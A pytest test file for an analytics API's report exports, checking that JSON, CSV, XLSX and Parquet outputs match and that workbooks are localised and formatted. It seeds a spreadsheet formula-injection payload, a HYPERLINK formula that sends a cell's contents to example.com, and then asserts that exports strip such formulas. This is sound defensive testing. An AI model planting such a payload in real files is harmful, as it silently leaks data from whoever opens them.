"""Every report of the API as JSON, CSV, XLSX and Parquet: the same rows, and no name that a spreadsheet computes."""

import io
import re
from collections.abc import Callable, Iterator
from functools import cache
from typing import Any

import openpyxl
import orjson
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.bootstrap import Services
from api.exports import ExportFormat
from api.workbook import HEADER_ROW
from attribution.measures import MEASURES
from infra.settings import read_settings
from tests.api.english import is_english
from tests.api.sheets import report_sheet, table_cells, table_of, totals_of
from tests.attribution.world import World, call, lead, spend, stage, visit
from tests.told import told_services

READ = {"Authorization": "Bearer r"}
PERIOD = {"from": "2026-01-01", "to": "2026-02-28"}
EVIL = '=HYPERLINK("https://example.com/?"&A1)'
MORE = {
    "/api/reports/power": {"test": "north", "control": "south", "weeks": "2", "baseline_weeks": "4"},
    "/api/reports/romi": {"by": "campaign,month"},
    "/api/reports/funnel": {"by": "dealer"},
    "/api/plans/{plan}/fact": {"by": "brand", "upto": "12"},
    "/api/reports/journey": {"kind": "sale", "id": "d0"},
}
BODIES: dict[str, dict[str, Any]] = {
    "/api/models": {"content": "path,conversions,value,nulls\n=search > mail,3,300,1\n+mail,1,100,4\n"},
    "/api/channel-rules/preview": {"json": [{"channel": "=video", "source": "^yandex$"}]},
}
EMPTY = {
    "/api/media-plans/items",
    "/api/reports/noise",
    "/api/noise/examples",
    "/api/reports/offline",
    "/api/reports/deals-without-contacts",
    "/api/hiring",
    "/api/stock-need",
}
"""Where nothing is to be found in this world."""


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    with (
        told_services(tmp_path_factory.mktemp("exports"), tell) as services,
        TestClient(create_app(services), headers=READ) as opened,
    ):
        opened.post("/api/experiments", json=EXPERIMENT).raise_for_status()
        opened.post("/api/funds/programmes", json=FUND).raise_for_status()
        opened.post("/api/briefs", json=BRIEF).raise_for_status()
        opened.post("/api/plans", json={"name": "Plan", "year": 2026}).raise_for_status()
        yield opened


@pytest.fixture(scope="module")
def document(client: TestClient) -> Callable[[str, str], bytes]:
    """What a method and a path answer as JSON: asked for once."""
    return cache(lambda method, path: ask(client, path, "json", method))


FUND: dict[str, Any] = {
    "name": "=Fund", "payer": "Importer", "first_quarter": "2026-Q1", "last_quarter": "2026-Q4",
    "rules": [{"amount": 5000}],
}  # fmt: skip
BRIEF: dict[str, Any] = {
    "title": "=Spring", "dealers": ["north"], "contractor": "@agency", "month": "2026-01", "budget": 9000,
}  # fmt: skip
EXPERIMENT: dict[str, Any] = {
    "id": "vk-pause", "channels": ["paid_social"], "design": "geo", "switched": "on", "test": ["north"],
    "control": ["south"], "baseline_from": "2026-01-05", "periods": [{"from": "2026-02-01", "to": "2026-02-07"}],
}  # fmt: skip


def tell(world: World) -> None:
    world.refer(
        dealers=[
            {"id": "north", "name": "North", "brand": "=Lada", "city": "-Omsk"},
            {"id": "south", "name": "South", "brand": "+Haval", "city": "Kazan"},
        ],
        contractors=[{"id": "@agency", "name": "Agency", "campaigns": [{"source": "vk"}]}],
    )
    many = range(40)
    dealers = {n: "north" if n % 2 else "south" for n in many}
    world.tell({
        "touches": [
            visit(f"t{n}", f"v{n}", n, "vk" if n % 3 else "yandex", campaign=EVIL if n % 2 else "spring",
                  contractor="@agency", dealer=dealers[n])
            for n in many
        ],
        "leads": [
            lead(f"l{n}", n + 0.2, visitor_id=f"v{n}", phone=f"+7916{n:07d}", dealer=dealers[n], campaign=EVIL,
                 properties={"self_reported_source": "@friends"})
            for n in many
        ],
        "calls": [call(f"c{n}", n + 0.3, "+74950000001", status="missed" if n % 4 else "answered", dealer=dealers[n])
                  for n in many],
        "deals": [
            *(stage(f"d{n}", "visit", n + 2, lead_id=f"l{n}", visitor_id=f"v{n}", dealer=dealers[n]) for n in many),
            *(stage(f"d{n}", "sale", n + 5, lead_id=f"l{n}", visitor_id=f"v{n}", dealer=dealers[n], amount=900_000.5,
                    margin=90_000) for n in range(0, 40, 2)),
        ],
        "spend": [
            spend("2026-01-01", "2026-02-10", 310_000, "vk", campaign=EVIL, contractor="@agency", clicks=100),
            spend("2026-01-01", "2026-02-10", 5000, "radio", medium="radio"),
            spend("2026-01-05", "2026-01-05", 77, "nowhere", campaign="-lost", currency="USD"),
        ],
    })  # fmt: skip
    world.attribute()


OF_THEIR_OWN_FORM = ("/export", "/template", "/facts", "/stock/table")
"""Tables of a plan and of stock, as they are taken in."""
TRIED_ELSEWHERE = ("/calculator/effectiveness", "/call-load/shifts", "/recommendations/{key}")
"""Where this world has too little: they are refused, and say why."""


def routes_that_export() -> list[tuple[str, str]]:
    """As the application itself lists them."""
    app = create_app(Services(read_settings(_env_file=None)))
    return sorted(
        (method, path)
        for path, methods in app.openapi()["paths"].items()
        for method, operation in methods.items()
        if not path.endswith((*OF_THEIR_OWN_FORM, *TRIED_ELSEWHERE))
        and any(each["name"] == "format" and each["in"] == "query" for each in operation.get("parameters", []))
    )


ROUTES = routes_that_export()


def ask(client: TestClient, path: str, form: str, method: str = "get", **more: str) -> bytes:
    asked = {**(PERIOD if method == "get" else {}), **MORE.get(path, {}), "format": form, **more}
    body = BODIES.get(path, {})
    answer = client.request(method, path.replace("{plan}", "1"), params=asked, **body)
    assert answer.status_code == 200, (path, form, answer.text)
    assert answer.headers["content-type"] == ExportFormat(form).media_type
    content: bytes = answer.content
    return content


def test_all_routes_of_reports_export() -> None:
    paths = create_app(Services(read_settings(_env_file=None))).openapi()["paths"]
    assert {path for _, path in ROUTES} > {path for path in paths if path.startswith("/api/reports/")}


@pytest.mark.parametrize(("method", "path"), ROUTES)
def test_every_report_is_the_same_in_every_form(
    client: TestClient, document: Callable[[str, str], bytes], method: str, path: str
) -> None:
    items: list[dict[str, Any]] = orjson.loads(document(method, path))["items"]
    assert items or path in EMPTY
    table = pd.read_csv(io.BytesIO(ask(client, path, "csv", method)), keep_default_na=False)
    parquet = pd.read_parquet(io.BytesIO(ask(client, path, "parquet", method)))
    assert list(table) == list(parquet)
    assert len(table) == len(parquet) == len(items)
    if items:
        assert list(table) == list(items[0])
    texts = [cell for row in table.itertuples(index=False) for cell in row if isinstance(cell, str)]
    assert not [text for text in texts if re.match(r"[=+@\t\r\n]|-\D", text)]
    check_sheet(ask(client, path, "xlsx", method), items)


def check_sheet(book: bytes, items: list[dict[str, Any]]) -> None:
    sheet = report_sheet(book)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" or cell.hyperlink for cell in cells)
    assert sheet["A1"].value
    if not items:
        assert not sheet.tables
        return
    header, *rows = table_cells(book)
    table = sheet.tables["Report"]
    assert len(rows) == len(items)
    assert table.autoFilter.ref == table.ref
    assert header[0].row == HEADER_ROW + 1
    assert sheet.freeze_panes.endswith(str(HEADER_ROW + 2))
    assert len({str(cell.value).lower() for cell in header}) == len(items[0])


@pytest.mark.parametrize("path", [path for method, path in ROUTES if method == "get"])
def test_a_workbook_is_in_the_readers_language(
    client: TestClient, document: Callable[[str, str], bytes], path: str
) -> None:
    """Fields of JSON are the same in every language."""
    asked = {**PERIOD, **MORE.get(path, {})}
    russian = {"Accept-Language": "ru"}
    answer = client.get(path.replace("{plan}", "1"), params={**asked, "format": "xlsx"}, headers=russian)
    sheet, about = openpyxl.load_workbook(io.BytesIO(answer.content)).worksheets
    headings = [cell.value for cell in sheet[HEADER_ROW + 1]]
    texts = [sheet.title, about.title, *(sheet[f"A{row}"].value for row in (1, 2, 3)), *headings]
    texts += [row[0].value for row in about.iter_rows()]
    assert [text for text in texts if text and is_english(str(text))] == []
    told = client.get(path.replace("{plan}", "1"), params=asked, headers=russian).content
    assert told == document("get", path)


@pytest.mark.parametrize("path", [path for method, path in ROUTES if method == "get"])
def test_every_report_without_rows_is_a_file_too(client: TestClient, path: str) -> None:
    for form in ExportFormat:
        assert ask(client, path, form.value, **{"from": "2020-01-01", "to": "2020-01-31"})


def test_a_workbook_says_what_it_is(client: TestClient) -> None:
    asked = {"by": "campaign", "model": "linear", "where": "channel:paid_social|paid_search,-dealer:south"}
    book = openpyxl.load_workbook(io.BytesIO(ask(client, "/api/reports/romi", "xlsx", **asked)))
    assert book.sheetnames == ["ROMI", "About"]
    sheet, about = book.worksheets
    assert sheet["A1"].value == "ROMI/CPL by campaign"
    assert sheet["A2"].value == "1 Jan 2026 – 28 Feb 2026 · Linear · by the date of the conversion · RUB"
    filters = "channel: paid_social or paid_search; all but dealer: south"
    assert sheet["A3"].value.startswith(f"Filters: {filters} · ")
    told = {row[0].value: row[1].value for row in about.iter_rows(min_row=2) if row[0].value}
    assert told["Period"] == "1 Jan 2026 – 28 Feb 2026"
    assert (told["Model"], told["Filters"], told["Currency"]) == ("Linear", filters, "RUB")
    assert told["Computed"] == "1 Jul 2026, 00:00 (UTC), run 1, the default channel rules"
    assert told["CPL"] == "cost / leads"
    said = " ".join(str(row[1].value) for row in about.iter_rows())
    assert "USD of spend" in said
    assert "that they caused it is not said" in said
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.print_title_rows == f"${HEADER_ROW + 1}:${HEADER_ROW + 1}"


def test_totals_stand_below_the_table_and_are_the_reports_own(client: TestClient) -> None:
    document = orjson.loads(ask(client, "/api/reports/romi", "json", by="dealer"))
    book = ask(client, "/api/reports/romi", "xlsx", by="dealer")
    totals, titles = totals_of(book), {measure.slug: measure.title for measure in MEASURES}
    assert totals["Dealer"] == "Total"
    assert {slug: totals[title] for slug, title in titles.items()} == pytest.approx(document["totals"])
    table = table_of(book)
    assert table["Cost"].sum() == pytest.approx(totals["Cost"])
    assert abs(table["CPL"].sum() - totals["CPL"]) > 1


def test_cells_are_written_in_their_units(client: TestClient) -> None:
    sheet = report_sheet(ask(client, "/api/reports/romi", "xlsx", by="month,campaign"))
    row: dict[str, Any] = dict(
        zip([str(cell.value) for cell in sheet[HEADER_ROW + 1]], sheet[HEADER_ROW + 2], strict=True)
    )
    assert row["Month"].is_date
    assert row["Month"].number_format == "mmm yyyy"
    assert row["Campaign"].data_type == "s"
    assert (row["Cost"].number_format, row["ROMI"].number_format) == ("#,##0", "#,##0.0%")
    assert row["Leads"].number_format in ("#,##0", "#,##0.0")
    for name, cell in row.items():
        width = sheet.column_dimensions[cell.column_letter].width
        assert width >= min(len(max(name.split(), key=len)), 48), name
    assert sheet.freeze_panes == f"C{HEADER_ROW + 2}"


def test_a_report_too_long_for_a_sheet_is_told(client: TestClient, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("api.workbook._MOST_ROWS", 1)
    answer = client.get("/api/reports/romi", params={**PERIOD, "by": "campaign", "format": "xlsx"})
    assert answer.status_code == 422
    assert answer.json()["error"]["where"] == "format"
